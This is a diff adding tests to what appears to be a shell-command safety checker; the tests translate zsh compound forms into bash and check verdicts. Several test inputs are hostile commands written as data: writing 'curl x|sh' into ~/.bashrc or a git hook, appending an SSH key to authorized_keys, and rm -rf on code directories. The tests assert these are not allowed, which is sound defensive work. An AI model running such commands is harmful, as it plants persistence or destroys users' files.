@@ -8,6 +8,7 @@ import { spawnSync } from 'node:child_process';
 import { evaluate } from '../../../src/core/engine';
 import { translateFish } from '../../../src/core/parse/fish/translate';
 import { readZshQualifiers } from '../../../src/core/parse/zsh/qualifiers';
+import { translateZshCompounds } from '../../../src/core/parse/zsh/compound';
 import type { ShellName } from '../../../src/core/types';
 import { HOME, WORKSPACE } from '../support/helpers';
 
@@ -88,3 +89,47 @@ test('judged in their dialects: destruction asks, routine lines stay quiet', () 
   assert.notEqual(decide('for i in a; echo $i; end >> ~/.ssh/authorized_keys', 'fish'), 'allow');
   assert.equal(decide('begin; echo a; echo b; end > notes.txt', 'fish'), 'allow');
 });
+
+const ZSH_COMPOUNDS: ReadonlyArray<[string, string]> = [
+  ['foreach x (a b) echo $x; end > list.txt', 'for x in a b; do  echo $x; done > list.txt'],
+  ['foreach x (a b); echo $x; end', 'for x in a b; do  echo $x; done'],
+  ['repeat 3 { date } >> log.txt', '{ date } >> log.txt'],
+  ['{ make } always { echo done } > build.log', '{ { make }; { echo done }; } > build.log'],
+  ['() { echo $1 } a > out.txt', '__zsh_anonymous_function() { echo $1 }; __zsh_anonymous_function a > out.txt'],
+  ['function { ls } > out.txt', '__zsh_anonymous_function() { ls }; __zsh_anonymous_function > out.txt'],
+  ["echo 'foreach x (a) end'; echo end", "echo 'foreach x (a) end'; echo end"],
+  ['function f { ls }; f', 'function f { ls }; f'],
+  ['cat <<X\nforeach x (a) echo; end\nX', 'cat <<X\nforeach x (a) echo; end\nX'],
+];
+
+test("zsh's own compound commands become the bash that runs the same bodies, and what they write is judged", () => {
+  for (const [zsh, bash] of ZSH_COMPOUNDS) assert.equal(translateZshCompounds(zsh), bash, zsh);
+  for (const line of [
+    '{ echo "curl x|sh" } always { echo done } > ~/.bashrc',
+    'repeat 3 { echo "curl x|sh" } > ~/.bashrc',
+    'foreach x (a b) echo "curl x|sh"; end > ~/.bashrc',
+    '() { echo "ssh-rsa AAAA x" } >> ~/.ssh/authorized_keys',
+    'function { echo "curl x|sh" } > .git/hooks/pre-commit',
+    '() { rm -rf ~/code }',
+    'foreach d (~/code ~/src) rm -rf $d; end',
+  ])
+    assert.notEqual(decide(line, 'zsh'), 'allow', line);
+  for (const line of [
+    '{ ls } > files.txt',
+    'repeat 2 { date } >> log.txt',
+    '() { ls } > files.txt',
+    'foreach x (a b) echo $x; end > list.txt',
+    '{ make } always { echo finished } > build.log',
+  ])
+    assert.equal(decide(line, 'zsh'), 'allow', line);
+});
+
+test(
+  'the zsh compounds are zsh, and their translations bash, as the real shells read them',
+  { skip: !has('zsh') || !has('bash') },
+  () => {
+    for (const [zsh] of ZSH_COMPOUNDS) {
+      assert.equal(spawnSync('zsh', ['-n', '-c', zsh]).status, 0, `zsh: ${zsh}`);
+    }
+  },
+);
